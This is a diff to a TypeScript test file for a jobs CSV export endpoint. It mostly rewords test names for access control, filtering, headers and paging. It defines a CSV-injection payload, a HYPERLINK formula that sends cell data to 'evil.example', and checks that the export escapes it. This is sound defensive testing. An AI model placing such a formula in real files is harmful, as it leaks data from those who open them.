@@ -1,4 +1,4 @@
-/** GET /console-api/jobs.csv: the console's table of jobs as a file. */
+/** GET /console-api/jobs.csv: the console's job table as a file. */
 import { once } from "node:events";
 import { request as httpRequest, type IncomingMessage } from "node:http";
 import { Writable } from "node:stream";
@@ -21,7 +21,7 @@ let owner: SignedInTestUser;
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
 
-/** The log's lines so far. */
+/** The log lines so far. */
 const log: Record<string, unknown>[] = [];
 const lines = new Writable({
   write(chunk: Buffer, _encoding, done) {
@@ -72,7 +72,7 @@ function pathOf({ filter, orderBy, values }: Question): string {
 const download = (question: Question, person: Pick<SignedInTestUser, "headers"> = owner) =>
   app.request(pathOf(question), { headers: person.headers });
 
-/** The rows of the file by the names of its columns. */
+/** The rows of the file as objects by column name. */
 async function rowsOf(answer: Promise<Response>): Promise<Record<string, string | null>[]> {
   const response = await answer;
   expect(response.status).toBe(200);
@@ -87,7 +87,7 @@ async function rowsOf(answer: Promise<Response>): Promise<Record<string, string 
   return rows.map((cells) => Object.fromEntries(cells.map((text, at) => [header[at] ?? "", text])));
 }
 
-/** The file through the import, as an operator would: how many jobs it made, changed and left alone. */
+/** Imports the file as an operator and returns the counts of created, updated and unchanged jobs. */
 async function importAgain(bytes: Uint8Array) {
   const { database, organizations } = app;
   const services = {
@@ -118,8 +118,8 @@ const numbersOf = async (answer: Promise<Response>): Promise<string[]> =>
   (await rowsOf(answer)).map(({ marking_number }) => String(marking_number));
 const sorted = (texts: readonly string[]): string[] => texts.toSorted();
 
-describe("200", () => {
-  it("has the jobs that the person sees, and nobody else's", async () => {
+describe("the CSV file", () => {
+  it("contains only the jobs visible to the user", async () => {
     expect(sorted(await numbersOf(download({})))).toEqual(["E-1", "E-2", "E-3"]);
     const carrier = await createSignedInUser(app, contractor.id);
     expect(await numbersOf(download({}, carrier))).toEqual(["E-1"]);
@@ -127,7 +127,7 @@ describe("200", () => {
     expect(await numbersOf(download({}, operator))).toContain("F-1");
   });
 
-  it("keeps to the filter and the order that `jobs` has", async () => {
+  it("applies filter and order like `jobs`", async () => {
     const orderBy = { field: "MARKING_NUMBER", direction: "DESC" };
     const filter = { or: [{ normalizedStatus: { eq: "failed" } }, { scheduledDate: { gte: "2031-01-01" } }] };
     expect(await numbersOf(download({ filter, orderBy }))).toEqual(["E-3", "E-2"]);
@@ -136,7 +136,7 @@ describe("200", () => {
   });
 
   // evidence: csv-download-headers
-  it("is a file to be kept by its name, and by nobody on the way", async () => {
+  it("has a file name and may not be cached", async () => {
     const { headers } = await download({});
     expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
     expect(headers.get("content-disposition")).toMatch(/^attachment; filename="jobs-\d{4}-\d\d-\d\d\.csv"$/);
@@ -147,7 +147,7 @@ describe("200", () => {
     );
   });
 
-  it("has no cell that a spreadsheet takes for a formula, and changes no other", async () => {
+  it("escapes cells that spreadsheets would run as formulas, and no others", async () => {
     const rows = new Map((await rowsOf(download({}))).map((row) => [row["marking_number"], row]));
     expect(rows.get("E-1")).toMatchObject({
       recipient_name: `'${FORMULA}`,
@@ -158,7 +158,7 @@ describe("200", () => {
     expect(rows.get("E-3")?.["recipient_name"]).toBe("'@SUM(1)");
   });
 
-  it("says by its first bytes that it is UTF-8, unless it is to be imported again", async () => {
+  it("starts with a byte order mark, except in the format for imports", async () => {
     expect(await firstBytes({})).toBe("efbbbf");
     expect(await firstBytes({ values: "exact" })).toBe(Buffer.from("mar").toString("hex"));
   });
@@ -172,7 +172,7 @@ describe("200", () => {
     },
   );
 
-  it("goes on from page to page, each job once, whatever the order", async () => {
+  it("contains each job once across pages, in every order", async () => {
     const many = await app.createOrganization("agent");
     const person = await createSignedInUser(app, many.id);
     const made = await app.createJobs(
@@ -189,7 +189,7 @@ describe("200", () => {
     expect(await numbersOf(download(byNumber, person))).toEqual(made.toReversed());
   }, 60_000);
 
-  it("ends with the client, which is no failure of ours", async () => {
+  it("stops without an error when the client disconnects", async () => {
     const many = await app.createOrganization("agent");
     const person = await createSignedInUser(app, many.id);
     const long = "x".repeat(4_000);
@@ -208,52 +208,52 @@ describe("200", () => {
 
 describe("400", () => {
   it.each([
-    ["a filter that is no JSON", "/console-api/jobs.csv?filter={", "filter"],
-    ["a filter twice", "/console-api/jobs.csv?filter={}&filter={}", "filter"],
-    ["a field that the contract has not", pathOf({ filter: { secret: true } }), "filter"],
-    ["a value of another type", pathOf({ filter: { weight: { gt: "much" } } }), "filter.weight.gt"],
+    ["for a filter that is not JSON", "/console-api/jobs.csv?filter={", "filter"],
+    ["for a repeated filter", "/console-api/jobs.csv?filter={}&filter={}", "filter"],
+    ["for an unknown field", pathOf({ filter: { secret: true } }), "filter"],
+    ["for a value of another type", pathOf({ filter: { weight: { gt: "much" } } }), "filter.weight.gt"],
     [
-      "a status that is none",
+      "for an unknown status",
       pathOf({ filter: { normalizedStatus: { eq: "lost" } } }),
       "filter.normalizedStatus.eq",
     ],
-    ["an id that is none", pathOf({ filter: { agentId: ["org_x"] } }), "filter.agentId.0"],
+    ["for an invalid ID", pathOf({ filter: { agentId: ["org_x"] } }), "filter.agentId.0"],
     [
-      "a list that is too long",
+      "for a list that is too long",
       pathOf({ filter: { agentId: Array.from({ length: 101 }, () => "org_x") } }),
       "filter.agentId",
     ],
-    ["an order that is none", pathOf({ orderBy: { field: "WEIGHT", direction: "ASC" } }), "orderBy.field"],
-    ["half an order", pathOf({ orderBy: { field: "CREATED_AT" } }), "orderBy"],
-    ["values of another kind", pathOf({ values: "raw" }), "values"],
+    ["for an invalid order", pathOf({ orderBy: { field: "WEIGHT", direction: "ASC" } }), "orderBy.field"],
+    ["for an order without a direction", pathOf({ orderBy: { field: "CREATED_AT" } }), "orderBy"],
+    ["for an unknown format", pathOf({ values: "raw" }), "values"],
   ])("%s", async (_what, path, field) => {
     const response = await app.request(path, { headers: owner.headers });
     const body = (await response.json()) as { error: { code: string; details: { field: string }[] } };
     expect({ status: response.status, field: body.error.details[0]?.field }).toEqual({ status: 400, field });
   });
 
-  it("a filter that nests without end", async () => {
+  it("for a filter that is nested too deep", async () => {
     let filter: object = { isLate: true };
     for (let depth = 0; depth < 300; depth += 1) filter = { not: filter };
     expect((await download({ filter })).status).toBe(400);
   });
 });
 
-describe("refused", () => {
-  it("401 without a session, also with a key", async () => {
+describe("GET /console-api/jobs.csv", () => {
+  it("returns 401 without a session, even with a key", async () => {
     expect((await app.request(pathOf({}), { headers: { origin: app.url } })).status).toBe(401);
     expect((await app.request(pathOf({}), { key: agent.key, headers: { origin: app.url } })).status).toBe(
       401,
     );
   });
 
-  it("403 from a page of another site", async () => {
+  it("returns 403 for a page of another origin", async () => {
     const { cookie } = owner.client;
     for (const where of [{}, { origin: "https://evil.example" }, { "sec-fetch-site": "cross-site" }])
       expect((await app.request(pathOf({}), { headers: { cookie, ...where } })).status).toBe(403);
   });
 
-  it("405 for anything but GET", async () => {
+  it("returns 405 for other methods", async () => {
     for (const method of ["POST", "HEAD", "DELETE"]) {
       const response = await app.request(pathOf({}), { method, headers: owner.headers });
       expect([response.status, response.headers.get("allow")]).toEqual([405, "GET"]);
